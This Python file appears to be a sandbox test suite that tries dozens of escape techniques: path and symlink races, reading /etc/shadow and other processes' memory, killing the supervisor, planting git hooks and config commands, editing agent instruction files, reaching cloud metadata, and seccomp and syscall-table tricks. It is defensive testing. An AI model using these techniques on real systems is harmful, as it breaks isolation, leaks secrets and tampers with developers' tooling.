"""Ways out of the cage, each a small program: run as `python escapes.py WORLD.json`, inside a cage.

A function tries one way and returns True when it got out; what it raises counts as held. Each runs in a process of its
own. The test outside looks besides at whether anything there has changed.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
W: dict[str, str] = {}
ESCAPES: dict[str, Callable[[], bool]] = {}
AT = -100
RACE_SECS = float(os.environ.get("CAGE_RACE_SECS", "0.2"))  # more for a longer look


def escape(work: Callable[[], bool]) -> Callable[[], bool]:
    ESCAPES[work.__name__] = work
    return work


def sc(number: int, *arguments: object) -> int:
    wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    LIBC.syscall.restype = ctypes.c_long
    result = LIBC.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def reads(path: str | int) -> bool:
    with open(path, "rb") as file:
        return b"CANARY" in file.read(1 << 16)


def works(work: Callable[[], object]) -> bool:
    work()
    return True


# ── reading what lies outside, or is secret inside ─────────────────────────────────────────────────


@escape
def read_outside() -> bool:
    return reads(W["secret"])


@escape
def read_by_dotdot() -> bool:
    return reads("../outside/secret.txt")


@escape
def read_by_many_slashes() -> bool:
    return reads("//" + W["secret"].replace("/", "//./"))


@escape
def read_through_proc_root() -> bool:
    return reads("/proc/self/root" + W["secret"])


@escape
def read_through_proc_cwd() -> bool:
    return reads("/proc/self/cwd/../outside/secret.txt")


@escape
def read_through_thread_self() -> bool:
    return reads("/proc/thread-self/root" + W["secret"])


@escape
def read_through_root_of_the_parent() -> bool:
    return reads(f"/proc/{W['victim_pid']}/root{W['secret']}")


@escape
def read_through_task_root() -> bool:
    return reads(f"/proc/{os.getpid()}/task/{os.getpid()}/root{W['secret']}")


@escape
def read_a_symlink_made_here() -> bool:
    os.symlink(W["secret"], "link-a")
    return reads("link-a")


@escape
def read_a_chain_of_symlinks() -> bool:
    os.symlink("../outside", "link-b")
    os.symlink("link-b/secret.txt", "link-c")
    return reads("link-c")


@escape
def read_a_symlink_of_the_temporary_folder() -> bool:
    link = os.environ["TMPDIR"] + "/link"
    os.symlink(W["secret"], link)
    return reads(link)


@escape
def read_a_hard_link() -> bool:
    os.link(W["secret"], "hard-a")
    return reads("hard-a")


@escape
def read_a_hard_link_in_the_temporary_folder() -> bool:
    os.link(W["secret"], os.environ["TMPDIR"] + "/hard")
    return reads(os.environ["TMPDIR"] + "/hard")


@escape
def read_by_a_descriptor_of_a_folder() -> bool:
    folder = os.open("..", os.O_PATH)
    return reads(os.open("outside/secret.txt", os.O_RDONLY, dir_fd=folder))


@escape
def read_by_reopening_an_o_path_descriptor() -> bool:
    found = os.open(W["secret"], os.O_PATH)
    return reads(f"/proc/self/fd/{found}")


@escape
def read_by_dev_fd() -> bool:
    found = os.open(W["secret"], os.O_PATH)
    return reads(f"/dev/fd/{found}")


@escape
def read_an_o_path_descriptor() -> bool:
    return b"CANARY" in os.read(os.open(W["secret"], os.O_PATH), 100)


@escape
def map_an_o_path_descriptor() -> bool:
    return b"CANARY" in mmap.mmap(os.open(W["secret"], os.O_PATH), 0, prot=mmap.PROT_READ)


@escape
def read_by_openat2() -> bool:
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return reads(sc(437, AT, W["secret"].encode(), how, 24))


@escape
def read_by_openat2_below_a_folder() -> bool:
    folder = os.open("/", os.O_PATH)
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0x10)
    return reads(sc(437, folder, W["secret"].encode(), how, 24))


@escape
def read_by_openat2_with_flags_that_change() -> bool:
    """O_PATH while it is decided, O_RDONLY by the time the kernel looks."""
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_PATH, 0, 0), 24)
    stop = False

    def flip() -> None:
        while not stop:
            struct.pack_into("Q", how, 0, os.O_RDONLY)
            struct.pack_into("Q", how, 0, os.O_PATH)

    flipper = threading.Thread(target=flip, daemon=True)
    flipper.start()
    try:
        for _ in range(300):
            try:
                found = sc(437, AT, W["secret"].encode(), how, 24)
                if b"CANARY" in os.read(found, 100):
                    return True
                os.close(found)
            except OSError:
                continue
    finally:
        stop = True
    return False


def racing(first: bytes, second: bytes, use: Callable[[object], bool], seconds: float = RACE_SECS) -> bool:
    """`use` is called with memory that changes from one path to the other all the time."""
    size = max(len(first), len(second)) + 1
    path = ctypes.create_string_buffer(first, size)
    stop = threading.Event()

    def flip() -> None:
        a, b = first.ljust(size, b"\0"), second.ljust(size, b"\0")
        while not stop.is_set():
            ctypes.memmove(path, a, size)
            ctypes.memmove(path, b, size)

    thread = threading.Thread(target=flip, daemon=True)
    thread.start()
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            try:
                if use(path):
                    return True
            except OSError:
                continue
    finally:
        stop.set()
    return False


def _reads_by_pointer(path: object) -> bool:
    found = sc(257, AT, path, os.O_RDONLY, 0)
    try:
        return b"CANARY" in os.read(found, 100)
    finally:
        os.close(found)


@escape
def flip_a_path_of_the_project() -> bool:
    return racing(b"plain.txt", W["secret"].encode(), _reads_by_pointer)


@escape
def flip_a_path_of_the_system() -> bool:
    return racing(b"/usr/bin/env", W["secret"].encode(), _reads_by_pointer)


@escape
def flip_a_path_to_the_secret_of_the_project() -> bool:
    return "env" in W and racing(b"/usr/bin/env", W["env"].encode(), _reads_by_pointer)


@escape
def flip_a_path_that_is_written() -> bool:
    def write(path: object) -> bool:
        found = sc(257, AT, path, os.O_WRONLY, 0)
        os.write(found, b"BROKEN")
        os.close(found)
        return False

    return racing(b"plain.txt", W["victim"].encode(), write)


@escape
def flip_a_path_that_is_removed() -> bool:
    return racing(b"nothing-here", W["victim"].encode(), lambda path: bool(sc(263, AT, path, 0)))


@escape
def flip_a_path_that_is_chmodded() -> bool:
    return racing(b"plain.txt", W["victim"].encode(), lambda path: bool(sc(268, AT, path, 0o777)))


@escape
def flip_a_folder_into_a_link() -> bool:
    """A second process swaps a folder for a link to the outside, while we write through it."""
    os.makedirs("swap/in", exist_ok=True)
    other = os.fork()
    if other == 0:
        end = time.monotonic() + RACE_SECS
        while time.monotonic() < end:
            for work in (
                lambda: os.rename("swap/in", "swap/away"),
                lambda: os.symlink(W["outside"], "swap/in"),
                lambda: os.unlink("swap/in"),
                lambda: os.rename("swap/away", "swap/in"),
            ):
                try:
                    work()
                except OSError:
                    pass
        os._exit(0)
    got = False
    while not os.waitpid(other, os.WNOHANG)[0]:
        try:
            got |= reads("swap/in/secret.txt")
        except OSError:
            pass
        try:
            with open("swap/in/victim.txt", "w") as file:
                file.write("BROKEN")
        except OSError:
            pass
    return got


@escape
def swap_by_exchange() -> bool:
    """RENAME_EXCHANGE of a file and a link to the outside."""
    open("xa", "w").close()
    os.symlink(W["secret"], "xb")
    end = time.monotonic() + RACE_SECS
    stop = threading.Event()

    def flip() -> None:
        while not stop.is_set():
            try:
                sc(316, AT, b"xa", AT, b"xb", 2)
            except OSError:
                pass

    threading.Thread(target=flip, daemon=True).start()
    try:
        while time.monotonic() < end:
            try:
                if reads("xa"):
                    return True
            except OSError:
                continue
    finally:
        stop.set()
    return False


@escape
def read_the_env_file() -> bool:
    return reads(".env")


@escape
def read_the_env_file_by_a_link() -> bool:
    os.symlink(".env", "link-env")
    return reads("link-env")


@escape
def read_the_env_file_by_a_hard_link() -> bool:
    os.link(".env", "hard-env")
    return reads("hard-env")


@escape
def read_the_env_file_after_a_rename() -> bool:
    os.rename(".env", "env-moved")
    return reads("env-moved")


@escape
def read_the_env_file_after_an_exchange() -> bool:
    open("other", "w").close()
    sc(316, AT, b".env", AT, b"other", 2)
    return reads("other")


@escape
def read_the_env_file_with_another_program() -> bool:
    return b"CANARY" in subprocess.run(["cat", ".env"], capture_output=True).stdout


@escape
def run_the_env_file_as_a_script() -> bool:
    done = subprocess.run(["sh", "./.env"], capture_output=True)
    return b"CANARY" in done.stdout + done.stderr


@escape
def read_the_env_file_by_splice() -> bool:
    read_end, write_end = os.pipe()
    os.splice(os.open(".env", os.O_RDONLY), write_end, 100)
    return b"CANARY" in os.read(read_end, 100)


@escape
def read_a_key_by_a_folder_that_moves() -> bool:
    os.rename("keys", "k2")
    return reads("k2/id_rsa")


@escape
def read_the_shadow_file() -> bool:
    return works(lambda: open("/etc/shadow").read(1))


@escape
def read_memory_of_the_kernel() -> bool:
    return works(lambda: open("/proc/kcore", "rb").read(1))


@escape
def read_dev_mem() -> bool:
    return works(lambda: open("/dev/mem", "rb").read(1))


@escape
def read_a_raw_disk() -> bool:
    name = next(name for name in os.listdir("/sys/block") if not name.startswith("loop"))
    return works(lambda: open(f"/dev/{name}", "rb").read(1))


@escape
def read_environment_of_another() -> bool:
    return works(lambda: open(f"/proc/{W['victim_pid']}/environ", "rb").read(1))


@escape
def read_command_line_of_another() -> bool:
    return works(lambda: open(f"/proc/{W['victim_pid']}/cmdline", "rb").read(1))


@escape
def open_memory_of_another() -> bool:
    return works(lambda: open(f"/proc/{W['victim_pid']}/mem", "rb+"))


@escape
def open_memory_of_the_supervisor() -> bool:
    return works(lambda: open(f"/proc/{os.getppid()}/../{W['app_pid']}/mem", "rb+"))


@escape
def descriptors_of_another() -> bool:
    return works(lambda: os.listdir(f"/proc/{W['victim_pid']}/fd"))


@escape
def read_the_database() -> bool:
    return works(lambda: open(W["own"] + "/blufio.db", "rb").read(1))


@escape
def read_the_audit_key() -> bool:
    return works(lambda: open(W["own"] + "/keys/audit.key", "rb").read(1))


@escape
def write_the_grants() -> bool:
    return works(lambda: open(W["own"] + "/grants.toml", "a").write("x"))


@escape
def remove_the_grants() -> bool:
    return works(lambda: os.unlink(W["own"] + "/grants.toml"))


@escape
def move_the_folder_of_the_program() -> bool:
    return works(lambda: os.rename(W["own"], W["own"] + "2"))


@escape
def read_what_a_rule_denies() -> bool:
    return reads("denied/secret.txt")


@escape
def read_what_a_rule_denies_in_another_case() -> bool:
    return reads("DENIED/secret.txt")


@escape
def read_what_a_rule_denies_by_a_detour() -> bool:
    return reads("sub/../denied/./secret.txt")


@escape
def read_what_a_rule_denies_after_a_move() -> bool:
    os.rename("denied", "moved")
    return reads("moved/secret.txt")


@escape
def read_what_a_rule_denies_by_a_link() -> bool:
    os.symlink("denied", "alias")
    return reads("alias/secret.txt")


@escape
def read_what_a_rule_denies_from_inside() -> bool:
    os.chdir("denied")
    return reads("secret.txt")


# ── changing what lies outside ─────────────────────────────────────────────────────────────────────


@escape
def write_outside() -> bool:
    return works(lambda: open(W["victim"], "w").write("BROKEN"))


@escape
def append_outside() -> bool:
    return works(lambda: open(W["victim"], "a").write("BROKEN"))


@escape
def create_outside() -> bool:
    return works(lambda: open(W["outside"] + "/new", "w"))


@escape
def create_outside_without_a_name() -> bool:
    return works(lambda: os.open(W["outside"], os.O_TMPFILE | os.O_WRONLY, 0o600))


@escape
def name_an_unnamed_file_outside() -> bool:
    made = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
    return works(lambda: sc(265, AT, f"/proc/self/fd/{made}".encode(), AT, f"{W['outside']}/named".encode(), 0x400))


@escape
def truncate_outside() -> bool:
    return works(lambda: os.truncate(W["victim"], 0))


@escape
def truncate_on_opening() -> bool:
    return works(lambda: os.open(W["victim"], os.O_RDONLY | os.O_TRUNC))


@escape
def remove_outside() -> bool:
    return works(lambda: os.unlink(W["victim"]))


@escape
def rename_outside() -> bool:
    return works(lambda: os.rename(W["victim"], W["victim"] + "2"))


@escape
def rename_into_the_project() -> bool:
    return works(lambda: os.rename(W["victim"], "taken"))


@escape
def rename_over_something_outside() -> bool:
    open("mine", "w").write("BROKEN")
    return works(lambda: os.rename("mine", W["victim"]))


@escape
def exchange_with_something_outside() -> bool:
    open("mine2", "w").close()
    return works(lambda: sc(316, AT, b"mine2", AT, W["victim"].encode(), 2))


@escape
def folder_outside() -> bool:
    return works(lambda: os.mkdir(W["outside"] + "/folder"))


@escape
def symlink_outside() -> bool:
    return works(lambda: os.symlink("/etc", W["outside"] + "/link"))


@escape
def fifo_outside() -> bool:
    return works(lambda: os.mkfifo(W["outside"] + "/fifo"))


@escape
def chmod_outside() -> bool:
    return works(lambda: os.chmod(W["victim"], 0o777))


@escape
def chmod_by_a_descriptor_for_reading() -> bool:
    return works(lambda: os.fchmod(os.open("/usr/bin/env", os.O_RDONLY), 0o777))


@escape
def chmod_an_o_path_descriptor() -> bool:
    return works(lambda: os.chmod(f"/proc/self/fd/{os.open(W['victim'], os.O_PATH)}", 0o777))


@escape
def chmod_by_fchmodat2() -> bool:
    return works(lambda: sc(452, os.open(W["victim"], os.O_PATH), b"", 0o777, 0x1000))


@escape
def times_outside() -> bool:
    return works(lambda: os.utime(W["victim"], (1, 1)))


@escape
def times_of_an_o_path_descriptor() -> bool:
    times = struct.pack("4q", 1, 0, 1, 0)
    return works(lambda: sc(280, os.open(W["victim"], os.O_PATH), b"", times, 0x1000))


@escape
def owner_outside() -> bool:
    return works(lambda: os.chown(W["victim"], os.getuid(), os.getgid()))


@escape
def attribute_outside() -> bool:
    return works(lambda: os.setxattr(W["victim"], "user.x", b"1"))


@escape
def attribute_by_the_newest_call() -> bool:
    args = struct.pack("QII", 0, 0, 0)
    return works(lambda: sc(463, AT, W["victim"].encode(), 0, b"user.x", args, 16))


@escape
def flags_of_a_file() -> bool:
    return works(lambda: fcntl.ioctl(os.open("plain.txt", os.O_RDONLY), 0x40086602, struct.pack("l", 0x10)))


@escape
def device_in_the_project() -> bool:
    return works(lambda: os.mknod("device", 0o600 | 0o060000, os.makedev(8, 0)))


@escape
def whiteout_in_the_project() -> bool:
    open("w1", "w").close()
    return works(lambda: sc(316, AT, b"w1", AT, b"w2", 4))


@escape
def set_uid_file_in_the_project() -> bool:
    open("suid", "w").close()
    os.chmod("suid", 0o4755)
    return bool(os.stat("suid").st_mode & 0o6000)


@escape
def set_uid_file_on_creation() -> bool:
    made = os.open("suid2", os.O_CREAT | os.O_WRONLY, 0o4755)
    return bool(os.fstat(made).st_mode & 0o6000)


# ── files that other programs obey ─────────────────────────────────────────────────────────────────


@escape
def write_a_hook() -> bool:
    return works(lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\n"))


@escape
def write_a_hook_by_a_link() -> bool:
    os.symlink(".git/hooks", "hooklink")
    return works(lambda: open("hooklink/pre-commit", "w").write("x"))


@escape
def move_a_hook_into_place() -> bool:
    open("prepared", "w").write("#!/bin/sh\n")
    return works(lambda: os.rename("prepared", ".git/hooks/post-checkout"))


@escape
def link_a_hook_into_place() -> bool:
    open("prepared2", "w").write("#!/bin/sh\n")
    return works(lambda: os.link("prepared2", ".git/hooks/post-merge"))


@escape
def replace_the_folder_of_hooks() -> bool:
    os.mkdir("myhooks")
    open("myhooks/x", "w").close()
    os.rename(".git/hooks", "oldhooks")
    return works(lambda: os.rename("myhooks", ".git/hooks"))


@escape
def link_in_place_of_the_hooks() -> bool:
    return works(lambda: (os.rename(".git/hooks", "h2"), os.symlink("../myhooks", ".git/hooks")))


@escape
def make_a_sample_hook_real() -> bool:
    open(".git/hooks/pre-push.sample", "w").close()
    return works(lambda: os.rename(".git/hooks/pre-push.sample", ".git/hooks/pre-push"))


@escape
def another_repository_inside() -> bool:
    os.makedirs("deep/hooks", exist_ok=True)
    open("deep/hooks/readme", "w").close()
    return works(lambda: (os.rename("deep", "nested/.git"), open("nested/.git/hooks/pre-commit", "w")))


@escape
def hook_of_a_bare_repository() -> bool:
    os.makedirs("bare/hooks", exist_ok=True)
    return works(lambda: open("bare/hooks/pre-commit", "w"))


@escape
def write_the_configuration_of_git() -> bool:
    return works(lambda: open(".git/config", "a").write("[core]\n\thooksPath=/tmp\n"))


@escape
def move_a_configuration_into_place() -> bool:
    open("config.lock", "w").write("[core]\n\tfsmonitor = /tmp/x\n")
    return works(lambda: os.rename("config.lock", ".git/config"))


@escape
def hold_a_configuration_open() -> bool:
    """Harmless while it is decided on; changed through a descriptor afterwards."""
    held = open(".git/config.lock", "w+")
    held.write("[core]\n\tbare = false\n")
    held.flush()
    os.rename(".git/config.lock", ".git/config")
    held.write("\tsshCommand = touch /tmp/x\n")
    held.flush()
    return "sshCommand" in open(".git/config").read()


@escape
def name_a_git_folder() -> bool:
    return works(lambda: open("sub/.git", "w").write("gitdir: ../evil"))


@escape
def write_a_workflow() -> bool:
    os.makedirs(".github/workflows", exist_ok=True)
    return works(lambda: open(".github/workflows/x.yml", "w"))


@escape
def write_tasks_of_an_editor() -> bool:
    os.makedirs(".vscode", exist_ok=True)
    return works(lambda: open(".vscode/tasks.json", "w"))


@escape
def write_instructions_for_agents() -> bool:
    return works(lambda: open("AGENTS.md", "w"))


@escape
def write_envrc() -> bool:
    return works(lambda: open(".envrc", "w"))


# ── other processes ────────────────────────────────────────────────────────────────────────────────


@escape
def signal_another() -> bool:
    return works(lambda: os.kill(int(W["victim_pid"]), 0))


@escape
def kill_everybody() -> bool:
    os.kill(-1, 0)
    return False  # the kernel signals those that it may; the victim is looked at from outside


@escape
def kill_the_program() -> bool:
    return works(lambda: os.kill(int(W["app_pid"]), signal.SIGKILL))


@escape
def kill_the_supervisor() -> bool:
    main = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("PPid"))
    above = int(next(line.split()[1] for line in open(f"/proc/{main}/status") if line.startswith("PPid")))
    for pid in (above, above - 1):  # the warden was there just before the supervisor
        try:
            os.kill(pid, signal.SIGKILL)
        except PermissionError:
            continue
        return True
    return False


@escape
def signal_by_a_descriptor() -> bool:
    return works(lambda: signal.pidfd_send_signal(os.pidfd_open(int(W["victim_pid"])), 0))


@escape
def trace_another() -> bool:
    return works(lambda: sc(101, 16, int(W["victim_pid"]), 0, 0))


@escape
def write_memory_of_another() -> bool:
    return works(lambda: sc(311, int(W["victim_pid"]), 0, 0, 0, 0, 0))


@escape
def take_a_descriptor_of_another() -> bool:
    return works(lambda: sc(438, os.pidfd_open(int(W["victim_pid"])), 0, 0))


@escape
def priority_of_another() -> bool:
    return works(lambda: os.setpriority(os.PRIO_PROCESS, int(W["victim_pid"]), 19))


@escape
def priority_of_everybody() -> bool:
    return works(lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19))


@escape
def limits_of_another() -> bool:
    new = struct.pack("QQ", 10, 10)
    return works(lambda: sc(302, int(W["victim_pid"]), 7, new, None))


@escape
def processors_of_another() -> bool:
    return works(lambda: os.sched_setaffinity(int(W["victim_pid"]), {0}))


@escape
def compare_with_another() -> bool:
    return works(lambda: sc(312, os.getpid(), int(W["victim_pid"]), 0, 0, 0))


@escape
def type_into_a_terminal() -> bool:
    for number in (0x5412, 0x5412 | 1 << 32):
        sc(16, 0, number, b"x")
    return True


@escape
def open_the_terminal() -> bool:
    return works(lambda: os.open("/dev/tty", os.O_RDWR))


@escape
def open_a_terminal_of_another() -> bool:
    return works(lambda: os.open(W["terminal"], os.O_RDWR | os.O_NOCTTY))


# ── the network and sockets ────────────────────────────────────────────────────────────────────────


def _connects(family: int, address: object, kind: int = socket.SOCK_STREAM) -> bool:
    with socket.socket(family, kind) as one:
        one.settimeout(3)
        one.connect(address)  # type: ignore[arg-type]
        one.send(b"hello")
    return True


@escape
def connect_to_a_server_outside() -> bool:
    return _connects(socket.AF_INET, ("127.0.0.1", int(W["port"])))


@escape
def connect_by_zero() -> bool:
    return _connects(socket.AF_INET, ("0.0.0.0", int(W["port"])))


@escape
def connect_by_a_mapped_address() -> bool:
    return _connects(socket.AF_INET6, ("::ffff:127.0.0.1", int(W["port"])))


@escape
def connect_without_waiting() -> bool:
    with socket.socket() as one:
        one.setblocking(False)
        number = one.connect_ex(("127.0.0.1", int(W["port"])))
    return number in (0, errno.EINPROGRESS)


@escape
def connect_after_listening_on_the_same_port_elsewhere() -> bool:
    with socket.socket() as own:
        own.bind(("127.0.0.9", int(W["port"])))
        own.listen()
        return _connects(socket.AF_INET, ("127.0.0.1", int(W["port"])))


@escape
def connect_by_fast_open() -> bool:
    with socket.socket() as one:
        return works(lambda: one.sendto(b"x", 0x20000000, ("127.0.0.1", int(W["port"]))))


@escape
def connect_by_fast_open_in_a_message() -> bool:
    with socket.socket() as one:
        return works(lambda: one.sendmsg([b"x"], [], 0x20000000, ("127.0.0.1", int(W["port"]))))


@escape
def flip_an_address() -> bool:
    with socket.socket() as own:
        own.bind(("127.0.0.1", 0))
        own.listen(200)
        good = struct.pack("=H", 2) + struct.pack(">H", own.getsockname()[1]) + socket.inet_aton("127.0.0.1") + bytes(8)
        bad = struct.pack("=H", 2) + struct.pack(">H", int(W["port"])) + socket.inet_aton("127.0.0.1") + bytes(8)

        def use(memory: object) -> bool:
            with socket.socket() as one:
                sc(42, one.fileno(), memory, 16)
                return one.getpeername()[1] == int(W["port"])

        return racing(good, bad, use)


@escape
def datagram_to_a_server_outside() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendto(b"escaped", ("127.0.0.1", int(W["udp"]))))


@escape
def datagram_in_a_message() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendmsg([b"escaped"], [], 0, ("127.0.0.1", int(W["udp"]))))


@escape
def datagram_after_connect() -> bool:
    return _connects(socket.AF_INET, ("127.0.0.1", int(W["udp"])), socket.SOCK_DGRAM)


@escape
def many_datagrams_at_once() -> bool:
    name = struct.pack("=H", 2) + struct.pack(">H", int(W["udp"])) + socket.inet_aton("127.0.0.1") + bytes(8)
    address, data = ctypes.create_string_buffer(name, 16), ctypes.create_string_buffer(b"escaped", 7)
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 7), 16)
    header = struct.pack("QIxxxxQQQQixxxx", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    batch = ctypes.create_string_buffer(header + bytes(8), 64)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return sc(307, one.fileno(), batch, 1, 0) > 0


@escape
def connect_to_the_outside_world() -> bool:
    return _connects(socket.AF_INET, ("192.0.2.1", 443))


@escape
def connect_to_cloud_metadata() -> bool:
    return _connects(socket.AF_INET, ("169.254.169.254", 80))


@escape
def leak_by_a_name() -> bool:
    """The name must not leave the machine: what comes back is an address of the cage's own."""
    return not socket.gethostbyname("secret-in-a-name.example.org").startswith("198.18.")


@escape
def ask_a_name_server_over_tcp() -> bool:
    return _connects(socket.AF_INET, ("8.8.8.8", 53))


@escape
def listen_to_the_world() -> bool:
    with socket.socket() as own:
        own.bind(("0.0.0.0", 0))
        own.listen()
        return own.getsockname()[0] == "0.0.0.0"


@escape
def listen_without_binding() -> bool:
    with socket.socket() as own:
        own.listen()
        return own.getsockname()[0] == "0.0.0.0"


@escape
def raw_socket() -> bool:
    return works(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))


@escape
def packet_socket() -> bool:
    return works(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))


@escape
def multipath_socket() -> bool:
    return works(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))


@escape
def virtual_machine_socket() -> bool:
    return works(lambda: socket.socket(40, socket.SOCK_STREAM))


@escape
def kernel_crypto_socket() -> bool:
    return works(lambda: socket.socket(38, socket.SOCK_SEQPACKET))


@escape
def netlink_of_the_firewall() -> bool:
    return works(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12))


@escape
def unix_socket_outside() -> bool:
    return _connects(socket.AF_UNIX, W["unix"])


@escape
def unix_socket_by_a_link() -> bool:
    os.symlink(W["unix"], "socklink")
    return _connects(socket.AF_UNIX, "socklink")


@escape
def unix_socket_by_proc() -> bool:
    found = os.open(W["unix"], os.O_PATH)
    return _connects(socket.AF_UNIX, f"/proc/self/fd/{found}")


@escape
def unix_socket_that_is_moved() -> bool:
    os.rename(W["unix"], "moved.sock")
    return _connects(socket.AF_UNIX, "moved.sock")


@escape
def abstract_socket() -> bool:
    return _connects(socket.AF_UNIX, "\0" + W["abstract"])


@escape
def credentials_of_the_supervisor() -> bool:
    a, _b = socket.socketpair()
    mine = struct.pack("3i", os.getpid(), os.getuid(), os.getgid())
    return works(lambda: a.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, mine)]))


@escape
def folder_of_the_root_over_a_socket() -> bool:
    a, b = socket.socketpair()
    socket.send_fds(a, [b"x"], [os.open("/", os.O_PATH)])
    root = socket.recv_fds(b, 1, 1)[1][0]
    return reads(os.open(W["secret"][1:], os.O_RDONLY, dir_fd=root))


# ── the kernel's side doors ────────────────────────────────────────────────────────────────────────


@escape
def io_uring() -> bool:
    return works(lambda: sc(425, 8, ctypes.create_string_buffer(120)))


@escape
def x32_calls() -> bool:
    return works(lambda: sc(0x40000000 | 2, W["secret"].encode(), 0, 0))


@escape
def calls_of_i386() -> bool:
    """`int 0x80` with the number of open: another table of calls."""
    path = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    path.write(W["secret"].encode() + b"\0")
    code = mmap.mmap(-1, 4096, prot=7)
    address = ctypes.addressof(ctypes.c_char.from_buffer(path))
    code.write(b"\x53\xb8\x05\0\0\0\xbb" + struct.pack("I", address & 0xFFFFFFFF) + b"\x31\xc9\xcd\x80\x5b\xc3")
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    found = run()
    return found >= 0 and reads(found)


@escape
def new_namespaces() -> bool:
    return works(lambda: sc(272, 0x10000000))


@escape
def new_namespaces_by_clone() -> bool:
    child = sc(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    return True


@escape
def new_namespaces_by_clone3() -> bool:
    return works(lambda: sc(435, struct.pack("11Q", 0x10000000, *[0] * 3, signal.SIGCHLD, *[0] * 6), 88))


@escape
def enter_a_namespace() -> bool:
    return works(lambda: sc(308, os.open("/proc/self/ns/mnt", os.O_RDONLY), 0))


@escape
def mount_something() -> bool:
    return works(lambda: sc(165, b"none", b"sub", b"tmpfs", 0, None))


@escape
def open_a_tree() -> bool:
    return works(lambda: sc(428, AT, b"/", 1))


@escape
def change_the_root() -> bool:
    return works(lambda: os.chroot("."))


@escape
def handle_of_a_file() -> bool:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 200)
    mount = ctypes.c_int()
    return works(lambda: sc(303, AT, W["secret"].encode(), handle, ctypes.byref(mount), 0))


@escape
def load_a_program_into_the_kernel() -> bool:
    return works(lambda: sc(321, 5, ctypes.create_string_buffer(120), 120))


@escape
def watch_page_faults() -> bool:
    return works(lambda: sc(323, 1))


@escape
def keys_of_the_session() -> bool:
    return works(lambda: sc(250, 0, -3, 0))


@escape
def shared_memory_of_others() -> bool:
    return works(lambda: sc(29, 0x1234, 4096, 0o1600))


@escape
def queues_of_others() -> bool:
    return works(lambda: sc(240, b"/q", 0o100, 0o600, None))


@escape
def performance_counters() -> bool:
    return works(lambda: sc(298, ctypes.create_string_buffer(128), 0, -1, -1, 0))


@escape
def a_second_listener() -> bool:
    """Whoever listens to the family's calls could answer them."""
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000), 8)
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(code))
    return works(lambda: sc(317, 1, 8, program))


@escape
def a_filter_that_allows_all() -> bool:
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000), 8)
    sc(317, 1, 0, struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    return reads(W["secret"])


@escape
def a_program_in_memory() -> bool:
    made = os.memfd_create("x")
    with open("/usr/bin/cat", "rb") as file:
        os.write(made, file.read())
    done = subprocess.run([f"/proc/self/fd/{made}", W["secret"]], pass_fds=[made], capture_output=True)
    return b"CANARY" in done.stdout


@escape
def a_loader_by_hand() -> bool:
    done = subprocess.run(["/lib64/ld-linux-x86-64.so.2", "/usr/bin/cat", W["secret"]], capture_output=True)
    return b"CANARY" in done.stdout


@escape
def set_uid_programs() -> bool:
    done = subprocess.run(["su", "-c", f"cat {W['secret']}"], capture_output=True, stdin=subprocess.DEVNULL)
    return b"CANARY" in done.stdout


@escape
def become_somebody_else() -> bool:
    return works(lambda: os.setresuid(12345, 12345, 12345))


@escape
def capabilities_again() -> bool:
    full = struct.pack("6I", *[0xFFFFFFFF] * 6)
    return works(lambda: sc(126, struct.pack("II", 0x20080522, 0), full))


@escape
def clock_of_the_machine() -> bool:
    return works(lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()))


@escape
def name_of_the_machine() -> bool:
    return works(lambda: socket.sethostname("x"))


@escape
def log_of_the_kernel() -> bool:
    return works(lambda: sc(103, 3, ctypes.create_string_buffer(100), 100))


@escape
def many_threads_ask_at_once() -> bool:
    """Sixty-four threads, each with another path outside: none may slip through."""
    found: list[bool] = []

    def work(number: int) -> None:
        for _ in range(20):
            try:
                found.append(reads(f"{W['outside']}/../outside/{'./' * number}secret.txt"))
            except OSError:
                continue

    threads = [threading.Thread(target=work, args=(number,)) for number in range(64)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    return any(found)


@escape
def leave_by_a_new_session() -> bool:
    """Looked at from outside: this must not live longer than the command."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", W["sleep"]])
        os._exit(0)
    return False


# ── what a first look at the cage has missed ───────────────────────────────────────────────────────


@escape
def datagram_without_a_family() -> bool:
    """AF_UNSPEC counts as IPv4 on a socket of IPv4."""
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
